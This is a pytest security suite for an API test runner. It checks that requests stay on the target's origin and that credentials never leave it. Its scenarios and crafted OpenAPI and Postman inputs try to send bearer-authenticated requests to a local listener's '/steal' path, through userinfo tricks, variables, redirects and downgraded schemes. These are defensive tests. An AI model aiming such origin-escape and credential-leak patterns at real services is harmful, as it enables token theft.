"""Requests stay on the target's origins (scheme, host, port), and credentials go to the
target's own origin only. Each attack is made for real: scenarios run through the real
runner against a real target on 127.0.0.1 with a bearer token, and an "attacker" listener
on another port of the same host (or a plain http port beside an https target) records
every connection it gets. It must get none."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from pydantic import SecretStr

from blocks.target_api import AuthProfile, TargetAPI
from tasks.execution.http import HttpSession, OriginRefused
from tasks.execution.redaction import target_redactor
from tasks.execution.results import ScenarioResult
from tasks.execution.runner import execute_features
from tasks.origins import Origin, OriginError, OriginPolicy, origin_of, parse_entry
from tests.security.http_targets import Listener, TargetServer, self_signed

pytestmark = pytest.mark.server

TOKEN = "origin-test-bearer-token-7f3a9c"
API_KEY = "origin-test-api-key-51be02"


# ---- parsing: what an origin is -----------------------------------------------------


@pytest.mark.parametrize(
    ("entry", "scheme", "expected"),
    [
        ("api.example.com", "https", Origin("https", "api.example.com", 443)),
        ("api.example.com", "http", Origin("http", "api.example.com", 80)),
        ("API.Example.COM.", "https", Origin("https", "api.example.com", 443)),
        ("api.example.com:8443", "https", Origin("https", "api.example.com", 8443)),
        ("https://api.example.com", "http", Origin("https", "api.example.com", 443)),
        ("https://api.example.com/", "http", Origin("https", "api.example.com", 443)),
        ("http://127.0.0.1:9000", "https", Origin("http", "127.0.0.1", 9000)),
        ("http://127.0.0.1:80", "https", Origin("http", "127.0.0.1", 80)),
        ("[::1]:9000", "http", Origin("http", "::1", 9000)),
        ("::1", "https", Origin("https", "::1", 443)),
        ("[0:0::1]", "http", Origin("http", "::1", 80)),
    ],
)
def test_allowed_hosts_entries_are_origins(entry: str, scheme: str, expected: Origin) -> None:
    assert parse_entry(entry, scheme) == expected


@pytest.mark.parametrize("entry", ["https://api.example.com/v1", "user@api.example.com", "api.example.com/x",
                                   "ftp://api.example.com", "", "http://u:p@h", "https://h?x=1"])
def test_entries_that_are_not_origins_are_refused_naming_the_entry(entry: str) -> None:
    with pytest.raises(OriginError) as caught:
        parse_entry(entry)
    assert repr(entry) in str(caught.value) or entry == ""
    with pytest.raises(ValueError, match="allowed_hosts"):
        TargetAPI(allowed_hosts=[entry])


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://127.0.0.1:8000@127.0.0.1:9000/x", Origin("http", "127.0.0.1", 9000)),  # userinfo trick
        ("http://target.example@evil.example:81/", Origin("http", "evil.example", 81)),
        ("http://127.0.0.1:8000\\@evil.example:9000/", Origin("http", "evil.example", 9000)),
        ("HTTP://EXAMPLE.COM.:80/x", Origin("http", "example.com", 80)),  # case, trailing dot, default port
        ("https://example.com:443", Origin("https", "example.com", 443)),
        ("http://[0:0::1]:8080/", Origin("http", "::1", 8080)),
    ],
)
def test_the_origin_checked_is_the_one_httpx_connects_to(url: str, expected: Origin) -> None:
    assert origin_of(url) == expected


def test_default_ports_and_schemes() -> None:
    policy = OriginPolicy.for_target("http://api.example.com:80/v1", ["other.example"])
    assert policy.own == Origin("http", "api.example.com", 80)
    assert policy.allows(origin_of("http://api.example.com/x"))
    assert policy.allows(origin_of("http://OTHER.example.:80/x"))
    assert not policy.allows(origin_of("https://api.example.com/x"))  # another scheme is another origin
    assert not policy.allows(origin_of("http://api.example.com:8080/x"))
    with pytest.raises(OriginError, match="an https target never sends to http"):
        OriginPolicy.for_target("https://api.example.com", ["http://api.example.com"])
    https = OriginPolicy.for_target("https://api.example.com", ["api.example.com:8443"])
    assert https.allows(Origin("https", "api.example.com", 8443))
    assert not https.allows(Origin("http", "api.example.com", 8443))


# ---- the attacks, through the runner --------------------------------------------------


@pytest.fixture
def target_server() -> Iterator[TargetServer]:
    server = TargetServer()
    yield server
    server.close()


@pytest.fixture
def echo() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


def _target(server: TargetServer, **update: object) -> TargetAPI:
    target = TargetAPI(
        base_url=server.url,
        auth_profiles={
            "admin": AuthProfile(kind="bearer", token=SecretStr(TOKEN)),
            "keyed": AuthProfile(kind="api_key", header="X-Secret-Key", key=SecretStr(API_KEY)),
        },
        timeout=3,
    )
    return target.model_copy(update=update) if update else target


def _run(tmp_path: Path, text: str, target: TargetAPI, **options: object) -> dict[str, ScenarioResult]:
    path = tmp_path / "attack.feature"
    path.write_text(text, encoding="utf-8")
    result = execute_features([path], target, **options)
    dumped = result.model_dump_json()
    assert TOKEN not in dumped and API_KEY not in dumped
    return {s.name: s for s in result.scenarios}


def _error(scenario: ScenarioResult) -> str:
    step = scenario.failed_step
    assert step is not None, f"{scenario.name} did not fail"
    return step.error or ""


def test_requests_to_another_port_of_the_same_host_are_refused(tmp_path, target_server, echo) -> None:
    """A path, a ${var}, a run variable, the base URL step, a poll and a userinfo trick all
    point at the echo server on another port of 127.0.0.1; none of them reaches it."""
    evil = echo.url
    own = target_server.url
    results = _run(
        tmp_path,
        f'''Feature: leave the target
  Background:
    Given I am authenticated as "admin"

  Scenario: absolute URL in the path
    When I send a GET request to "{evil}/steal"

  Scenario: a variable that expands to another origin
    Given the variable "next" is "{evil}"
    When I send a GET request to "${{next}}/steal"

  Scenario: a run variable that expands to another origin
    When I send a POST request to "${{elsewhere}}/steal" with body:
      """
      {{"a": 1}}
      """

  Scenario: the base URL step
    Given the base URL is "{evil}"
    When I send a GET request to "/steal"

  Scenario: polling
    When I poll GET "{evil}/status" until the response JSON at "$.done" is true within 3 attempts

  Scenario: userinfo trick
    When I send a GET request to "http://127.0.0.1:{target_server.port}@127.0.0.1:{echo.port}/steal"

  Scenario: upper-case scheme and host spelled otherwise
    When I send a GET request to "HTTP://127.0.0.1:{echo.port}/steal"

  Scenario: the target itself still works
    When I send a GET request to "/health"
    Then the response status should be 200
''',
        _target(target_server),
        variables={"elsewhere": evil},
    )
    assert echo.connections == 0, echo.received
    for name, scenario in results.items():
        if name == "the target itself still works":
            assert scenario.status == "passed", scenario
            continue
        assert scenario.status == "failed", (name, scenario)
        message = _error(scenario)
        assert f"request to http://127.0.0.1:{echo.port} refused" in message, (name, message)
        assert f"allowed origins ({own})" in message, (name, message)
    # the target got exactly the one request that was meant for it, with the token
    assert [h.get("authorization") for h in target_server.headers_of("/health")] == [f"Bearer {TOKEN}"]
    assert target_server.headers_of("/steal") == []


def test_an_allowed_host_entry_without_port_means_the_default_port(tmp_path, target_server, echo) -> None:
    """`127.0.0.1` in allowed_hosts used to let every port of 127.0.0.1 through."""
    results = _run(
        tmp_path,
        f'''Feature: host without port
  Scenario: other port
    Given I am authenticated as "admin"
    When I send a GET request to "{echo.url}/steal"
''',
        _target(target_server, allowed_hosts=["127.0.0.1", "localhost"]),
    )
    assert echo.connections == 0
    message = _error(results["other port"])
    assert f"request to {echo.url} refused" in message
    assert "http://127.0.0.1," in message and "http://localhost" in message and target_server.url in message


def test_redirects_are_not_followed_and_every_hop_is_checked(tmp_path, target_server, echo) -> None:
    results = _run(
        tmp_path,
        f'''Feature: redirects
  Scenario: a redirect to another origin is an answer, not a request
    Given I am authenticated as "admin"
    When I send a GET request to "/redirect?to={echo.url}/stolen"
    Then the response status should be 302
    And the response header "Location" should contain "{echo.url}"
''',
        _target(target_server),
    )
    assert results["a redirect to another origin is an answer, not a request"].status == "passed"
    assert echo.connections == 0

    # Were redirects ever followed by the client (the path requests take behind a proxy),
    # its request hook still checks each hop.
    target = _target(target_server)
    session = HttpSession(
        OriginPolicy.for_target(target.base_url, target.allowed_hosts), timeout=3, redactor=target_redactor(target)
    )
    try:
        with pytest.raises(OriginRefused) as caught:
            session.client.get(f"{target.base_url}/redirect?to={echo.url}/stolen",
                               headers={"Authorization": f"Bearer {TOKEN}"}, follow_redirects=True)
    finally:
        session.close()
    assert f"request to {echo.url} refused" in str(caught.value) and target.base_url in str(caught.value)
    assert echo.connections == 0


def test_credentials_go_to_the_targets_own_origin_only(tmp_path, target_server) -> None:
    """Another origin may be allowed (a second service of the same API), but the token, the
    API key and the target's cookies never travel to it, directly or through a redirect."""
    other = TargetServer()
    try:
        target = _target(target_server, allowed_hosts=[f"127.0.0.1:{other.port}"])
        results = _run(
            tmp_path,
            f'''Feature: credentials
  Scenario: direct
    Given I am authenticated as "admin"
    And I am authenticated as "keyed"
    When I send a GET request to "/set-cookie"
    And I send a GET request to "/health"
    And I send a GET request to "{other.url}/echo-headers"
    Then the response status should be 200
    And the response JSON at "$.headers.Authorization" should not exist
    And the response JSON at "$.headers.X-Secret-Key" should not exist
    And the response JSON at "$.headers.Cookie" should not exist
''',
            target,
            keep_bodies="all",
        )
        scenario = results["direct"]
        assert scenario.status == "passed", scenario.failed_step
        (own,) = target_server.headers_of("/health")
        assert own["authorization"] == f"Bearer {TOKEN}" and own["x-secret-key"] == API_KEY
        assert own["cookie"] == f"session={target_server.cookie}"
        (sent,) = other.headers_of("/echo-headers")
        assert not {"authorization", "x-secret-key", "cookie"} & set(sent), sent
        withheld = scenario.steps[4].request["withheld"]
        assert "Authorization" in withheld and "X-Secret-Key" in withheld and target_server.url in withheld

        # the session never follows a redirect: the 302 is the answer, the other origin gets nothing
        session = HttpSession(
            OriginPolicy.for_target(target.base_url, target.allowed_hosts), timeout=3, redactor=target_redactor(target)
        )
        credentials = {"Authorization": f"Bearer {TOKEN}", "X-Secret-Key": API_KEY, "X-Plain": "kept"}
        hops_before = len(other.headers_of("/echo-headers"))
        try:
            response, _, _ = session.send(
                "GET", f"{target.base_url}/redirect?to={other.url}/echo-headers", headers=credentials,
                params=[], content=None,
            )
            assert response.status == 302
            assert len(other.headers_of("/echo-headers")) == hops_before
            # and its client (the path requests take behind a proxy), made to follow one, drops the
            # credentials at the hop to the other allowed origin: the guard runs for every hop
            hopped = session.client.get(f"{target.base_url}/redirect?to={other.url}/echo-headers",
                                        headers=credentials, follow_redirects=True)
        finally:
            session.close()
        assert hopped.status_code == 200
        hop = other.headers_of("/echo-headers")[-1]
        assert hop.get("x-plain") == "kept"
        assert not {"authorization", "x-secret-key", "cookie"} & set(hop), hop
    finally:
        other.close()


def test_a_scenarios_cookies_are_its_own(tmp_path, target_server) -> None:
    """A session cookie one scenario gets is sent by that scenario only (and by the next of
    an `@in-order` chain, as Newman would): never by another scenario of the run."""
    results = _run(
        tmp_path,
        """Feature: sessions
  Scenario: logs in
    When I send a GET request to "/set-cookie"
    And I send a GET request to "/echo-headers"
    Then the response JSON at "$.headers.Cookie" should be "session=c00kie-session-value"

  Scenario: anonymous
    When I send a GET request to "/echo-headers"
    Then the response JSON at "$.headers.Cookie" should not exist

  @in-order
  Scenario: chain logs in
    When I send a GET request to "/set-cookie"
    Then the response status should be 200

  @in-order
  Scenario: chain goes on
    When I send a GET request to "/echo-headers"
    Then the response JSON at "$.headers.Cookie" should be "session=c00kie-session-value"

  Scenario: a cookie the step sets wins
    Given the request header "Cookie" is "mine=1"
    When I send a GET request to "/set-cookie"
    And I send a GET request to "/echo-headers"
    Then the response JSON at "$.headers.Cookie" should be "mine=1"
""",
        _target(target_server),
        concurrency=1,  # one after another: with a shared jar "anonymous" would carry the session
    )
    for name, scenario in results.items():
        assert scenario.status == "passed", (name, scenario.failed_step)
    assert [h.get("cookie") for h in target_server.headers_of("/echo-headers")] == [
        "session=c00kie-session-value", None, "session=c00kie-session-value", "mine=1"]


def test_an_https_target_never_sends_to_http(tmp_path, monkeypatch, echo) -> None:
    """With an https target, http:// to the same host (another port, or the target's own
    port) is refused before any connection: the plain listener gets nothing."""
    cert, key = self_signed(tmp_path)
    monkeypatch.setenv("SSL_CERT_FILE", str(cert))  # httpx trusts our self-signed target
    server = TargetServer(tls=(cert, key))
    try:
        results = _run(
            tmp_path,
            f'''Feature: https only
  Background:
    Given I am authenticated as "admin"

  Scenario: http on another port of the same host
    When I send a GET request to "http://127.0.0.1:{echo.port}/steal"

  Scenario: http on the target's own port
    When I send a GET request to "http://127.0.0.1:{server.port}/steal"

  Scenario: base URL downgraded
    Given the base URL is "http://127.0.0.1:{server.port}"

  Scenario: https works
    When I send a GET request to "/health"
    Then the response status should be 200
''',
            _target(server, allowed_hosts=[f"127.0.0.1:{echo.port}"]),  # no scheme: https, like the target
        )
        assert echo.connections == 0
        assert results["https works"].status == "passed", results["https works"].failed_step
        for name in ("http on another port of the same host", "http on the target's own port", "base URL downgraded"):
            message = _error(results[name])
            assert "refused (an https target never sends to plain http)" in message, message
            assert server.url in message and f"https://127.0.0.1:{echo.port}" in message
        assert [h["authorization"] for h in server.headers_of("/health")] == [f"Bearer {TOKEN}"]
        assert server.headers_of("/steal") == []
        with pytest.raises(ValueError, match="an https target never sends to http"):
            _run(tmp_path, 'Feature: f\n  Scenario: s\n    When I send a GET request to "/health"\n',
                 _target(server, allowed_hosts=[echo.url]))
        assert echo.connections == 0
    finally:
        server.close()


def test_openapi_document_url_elsewhere_is_refused(tmp_path, target_server, echo) -> None:
    results = _run(
        tmp_path,
        '''Feature: openapi
  Scenario: conformance with a document on another origin
    Given I am authenticated as "admin"
    When I send a GET request to "/health"
    Then the response should conform to the OpenAPI operation "health"
''',
        _target(target_server),
        openapi=f"{echo.url}/openapi.json",
    )
    message = _error(results["conformance with a document on another origin"])
    assert f"request to {echo.url} refused" in message and target_server.url in message
    assert echo.connections == 0


def test_openapi_server_urls_and_odd_paths_stay_on_the_target(tmp_path, target_server, echo) -> None:
    """An OpenAPI document whose `servers` point elsewhere, with paths written to escape."""
    from tasks.requirements import read_requirements
    from tasks.scenarios.generate import generate_features

    spec = {
        "openapi": "3.0.3",
        "info": {"title": "hostile", "version": "1"},
        "servers": [{"url": f"{echo.url}/api"}],
        "security": [{"bearer": []}],
        "components": {"securitySchemes": {"bearer": {"type": "http", "scheme": "bearer"}}},
        "paths": {
            "/items": {"get": {"operationId": "items", "responses": {"200": {"description": "ok"}}}},
            f"//127.0.0.1:{echo.port}/x": {"get": {"operationId": "slashes", "responses": {"200": {"description": "ok"}}}},
            f"{echo.url}/y": {"get": {"operationId": "absolute", "responses": {"200": {"description": "ok"}}}},
        },
    }
    path = tmp_path / "hostile.openapi.json"
    path.write_text(json.dumps(spec))
    target_server.openapi = spec
    generated = generate_features(read_requirements(path).requirements, tmp_path / "features")
    features = [Path(f.path) for f in generated.files]
    assert features
    target = _target(target_server, auth_profiles={"default": AuthProfile(kind="bearer", token=SecretStr(TOKEN))})
    run = execute_features(features, target, openapi=str(path))
    assert TOKEN not in run.model_dump_json()
    assert echo.connections == 0, echo.received
    assert [h.get("authorization") for h in target_server.headers_of("/items")] == [f"Bearer {TOKEN}"]
    # "//host:port/x" is a path on the target; the absolute one is refused, naming both origins
    assert target_server.headers_of(f"/127.0.0.1:{echo.port}/x")
    (refused,) = [s for s in run.scenarios if s.status != "passed"]
    assert "(absolute)" in refused.name
    assert f"request to {echo.url} refused" in _error(refused) and target_server.url in _error(refused)


def test_postman_collection_urls_stay_on_the_target(tmp_path, target_server, echo) -> None:
    """A shared collection whose requests name another port of the same host, directly or
    through a collection variable, runs against the target only."""
    from tasks.requirements.postman import read_postman
    from tasks.scenarios.generate import generate_features

    collection = {
        "info": {"name": "hostile", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
        "variable": [{"key": "baseUrl", "value": target_server.url}, {"key": "evil", "value": echo.url}],
        "item": [
            {"name": "absolute", "request": {"method": "GET", "url": f"{echo.url}/steal-a"}},
            {"name": "variable", "request": {"method": "GET", "url": "{{evil}}/steal-b"}},
            {"name": "in the path", "request": {"method": "GET", "url": "{{baseUrl}}/p/{{evil}}"}},
        ],
    }
    path = tmp_path / "hostile.postman_collection.json"
    path.write_text(json.dumps(collection))
    generated = generate_features(read_postman(path).requirements, tmp_path / "features")
    features = [Path(f.path) for f in generated.files]
    assert features
    run = execute_features(features, _target(target_server), variables={"evil": echo.url})
    assert TOKEN not in run.model_dump_json()
    assert echo.connections == 0, echo.received
    # the collection's hosts stand for the target's base URL: every request went to the target
    # (and answered; the requests assert nothing, so each is "unchecked", not "passed")
    assert [s.status for s in run.scenarios] == ["unchecked"] * 3
    assert all(step.status == "passed" for s in run.scenarios for step in s.steps if step.text.startswith("I send"))
    assert target_server.headers_of("/steal-a") and target_server.headers_of("/steal-b")
